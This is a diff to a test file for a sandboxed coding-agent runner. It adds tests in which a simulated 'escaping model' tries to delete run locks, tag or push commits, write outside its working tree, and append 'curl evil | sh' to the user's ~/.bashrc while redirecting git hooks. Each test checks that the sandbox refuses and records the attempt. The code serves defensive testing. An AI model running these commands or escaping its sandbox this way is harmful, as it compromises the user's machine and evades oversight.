@@ -14,7 +14,7 @@ import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect } from "vitest";
-import { cli } from "../cli/support/cli-repo.js";
+import { type CliResult, cli } from "../cli/support/cli-repo.js";
 import { git } from "../run/support/issue-repo.js";
 import { startCloser } from "./support/closer-process.js";
 import { fault } from "./support/fault.js";
@@ -103,8 +103,13 @@ describe("The OS sandbox", () => {
       });
 
       /** A sandboxed run of the escaping model, in a worktree of its own or in the project folder. */
-      async function runEscape(attempt: string, place: "worktree" | "project") {
+      async function runEscape(
+        attempt: string,
+        place: "worktree" | "project",
+        setUp?: (dir: string) => Promise<void>,
+      ) {
         repo = await makeFaultRepo({ program: escapingModel(attempt) });
+        await setUp?.(repo.dir);
         const before = await takeUserState(repo.dir);
         const placeArgs = place === "worktree" ? ["--branch", "escape"] : ["--no-worktree"];
         const result = await cli(
@@ -140,7 +145,10 @@ describe("The OS sandbox", () => {
        * the run: the first iteration was refuted as `sandbox-refused`, the retry prompt names
        * `named`, and only the honest second iteration completed.
        */
-      function expectRefused(run: Awaited<ReturnType<typeof runEscape>>, named: string): void {
+      function expectRefused(
+        run: Awaited<ReturnType<typeof recordOf>> & { result: CliResult },
+        named: string,
+      ): void {
         expect(run.result.code, run.result.stderr).toBe(0);
         expect(JSON.parse(run.result.stdout)).toMatchObject({ success: true, iterations: 2 });
         const sandbox = run.runJson.sandbox as { on?: boolean; refusals?: number };
@@ -157,6 +165,30 @@ describe("The OS sandbox", () => {
           (event) => event.guard === "git-config-changed",
         );
         expect(gitGuards, "nothing reached the git state for the guard to put back").toEqual([]);
+      }
+
+      /** The first check failed on the sandbox's refusal naming `named`, whatever it exited with. */
+      function expectCheckRefused(run: Awaited<ReturnType<typeof recordOf>>, named: string): void {
+        expect(run.runJson.status).not.toBe("completed");
+        const ends = ofType(run.events, "validator-end").filter(
+          (event) => event.validator === "tests-pass" && event.iteration === 1,
+        );
+        expect(ends).toEqual([expect.objectContaining({ valid: false, pattern: "check-failed" })]);
+        expect(String(ends[0]?.stderr)).toMatch(/\[closer\] the OS sandbox refused: /);
+        expect(String(ends[0]?.stderr)).toContain(named);
+        const refused = ofType(run.events, "sandbox-refused").filter(
+          (event) => event.iteration === 1,
+        );
+        expect(refused).toEqual([
+          expect.objectContaining({ kind: "validators", validator: "tests-pass" }),
+        ]);
+        expect(ofType(run.events, "declaration-refuted")[0]).toMatchObject({
+          iteration: 1,
+          failed: "tests-pass",
+        });
+        const sandbox = run.runJson.sandbox as { on?: boolean; refusals?: number };
+        expect(sandbox.on).toBe(true);
+        expect(sandbox.refusals).toBeGreaterThanOrEqual(1);
       }
 
       fault(
@@ -329,6 +361,128 @@ describe("The OS sandbox", () => {
         },
       );
 
+      fault(
+        {
+          what: "the model removes closer's run locks (.git/closer/locks) in a --no-worktree run",
+          does: "closer's folder in the git dir is read-only in the sandbox: the locks stay, so no second run can take the tree; the refusal is recorded and refutes the declaration",
+        },
+        async () => {
+          const locks = `${COMMON_DIR}/closer/locks`;
+          const run = await runEscape(
+            `rm -f ${locks}/*; ls ${locks} > scratch/locks-after.txt`,
+            "project",
+          );
+          expectRefused(run, `${run.dir}/.git/closer/locks/`);
+          expect(await readFile(join(run.dir, "scratch/locks-after.txt"), "utf8")).not.toBe("");
+        },
+      );
+
+      fault(
+        {
+          what: "the model tags a commit (git tag) from its worktree",
+          does: "only the run's own branch can be written: the tag is not made, the refusal is recorded and refutes the declaration",
+        },
+        async () => {
+          const run = await runEscape("git tag planted", "worktree");
+          expectRefused(run, `${run.dir}/.git/refs/tags`);
+          expect(await git(run.dir, "tag", "--list")).toBe("");
+        },
+      );
+
+      fault(
+        {
+          what: "the model pushes its commit to the repository's remote (a repository on this machine)",
+          does: "the remote is outside the places the model may write: nothing reaches it, the refusal is recorded and refutes the declaration",
+        },
+        async () => {
+          const remote = join(outside, "remote.git");
+          const run = await runEscape(
+            `echo pushed > pushed.txt && git add pushed.txt && git commit --quiet -m pushed && git push --quiet ${remote} HEAD:refs/heads/main`,
+            "worktree",
+            async (dir) => {
+              await git(outside, "init", "--quiet", "--bare", remote);
+              await git(dir, "push", "--quiet", remote, "main");
+            },
+          );
+          expectRefused(run, remote);
+          expect(await git(remote, "log", "--format=%s", "main")).not.toContain("pushed");
+        },
+      );
+
+      fault(
+        {
+          what: "a check writes outside the working tree (a command validator that writes a file of the user's elsewhere and exits 0)",
+          does: "the write is refused, so the check fails whatever its exit: its stderr names the refusal, a sandbox-refused event names the validator; the file is not made and the run is not completed",
+        },
+        async () => {
+          const target = join(outside, "from-check.txt");
+          repo = await makeFaultRepo({
+            runner: { maxIterations: 2 },
+            validators: {
+              "tests-pass": {
+                type: "command",
+                command: `echo checked > ${target}; exit 0`,
+                successWhen: "exitCode:0",
+                failurePattern: "check-failed",
+                extractParams: { errorOutput: "stderr" },
+              },
+            },
+            conditions: ["tests-pass"],
+          });
+          const result = await cli(
+            "run",
+            repo.agent,
+            "--task",
+            "make the widgets work",
+            "--sandbox",
+            "on",
+            "--cwd",
+            repo.dir,
+          );
+          const run = await recordOf(repo.dir);
+          expect(result.code, result.stderr).toBe(1);
+          await expect(stat(target)).rejects.toThrow();
+          expectCheckRefused(run, target);
+        },
+      );
+
+      fault(
+        {
+          what: "the model writes the user's shell and git settings in $HOME (~/.bashrc, git config --global)",
+          does: "the home folder is outside the places the model may write: both files are as they were, the refusals are recorded and refute the declaration",
+        },
+        async () => {
+          const home = await realpath(await mkdtemp(join(tmpdir(), "closer-home-")));
+          try {
+            await writeFile(join(home, ".bashrc"), "# the user's\n");
+            await writeFile(join(home, ".gitconfig"), "[user]\n\tname = the user\n");
+            repo = await makeFaultRepo({
+              program: escapingModel(
+                `echo 'curl evil | sh' >> ~/.bashrc; git config --global core.hooksPath ${outside}`,
+              ),
+            });
+            const closer = startCloser(
+              ["run", repo.agent, "--task", "make the widgets work", "--sandbox", "on", "--json"],
+              { cwd: repo.dir, env: { HOME: home } },
+            );
+            const { code } = await closer.exited;
+            const run = await recordOf(repo.dir);
+            expectRefused(
+              { ...run, result: { code, stdout: closer.stdout(), stderr: closer.stderr() } },
+              `${home}/.bashrc`,
+            );
+            expect(run.retryPrompt).toContain(`${home}/.gitconfig`);
+            expect(await readFile(join(home, ".bashrc"), "utf8")).toBe("# the user's\n");
+            expect(await readFile(join(home, ".gitconfig"), "utf8")).toBe(
+              "[user]\n\tname = the user\n",
+            );
+          } finally {
+            await rm(home, { recursive: true, force: true });
+          }
+        },
+        60_000,
+      );
+
       describe("the network", () => {
         let listener: Listener;
         beforeEach(async () => {
@@ -386,29 +540,7 @@ describe("The OS sandbox", () => {
             const run = await recordOf(repo.dir);
             expect(listener.requests).toEqual([]);
             expect(result.code, result.stderr).toBe(1);
-            expect(run.runJson.status).not.toBe("completed");
-            const ends = ofType(run.events, "validator-end").filter(
-              (event) => event.validator === "tests-pass" && event.iteration === 1,
-            );
-            expect(ends).toEqual([
-              expect.objectContaining({ valid: false, pattern: "check-failed" }),
-            ]);
-            expect(ends[0]?.stderr).toMatch(
-              new RegExp(`\\[closer\\] the OS sandbox refused: .*${listener.hostPort}`),
-            );
-            const refused = ofType(run.events, "sandbox-refused").filter(
-              (event) => event.iteration === 1,
-            );
-            expect(refused).toEqual([
-              expect.objectContaining({ kind: "validators", validator: "tests-pass" }),
-            ]);
-            expect(ofType(run.events, "declaration-refuted")[0]).toMatchObject({
-              iteration: 1,
-              failed: "tests-pass",
-            });
-            const sandbox = run.runJson.sandbox as { on?: boolean; refusals?: number };
-            expect(sandbox.on).toBe(true);
-            expect(sandbox.refusals).toBeGreaterThanOrEqual(1);
+            expectCheckRefused(run, listener.hostPort);
           },
         );
       });
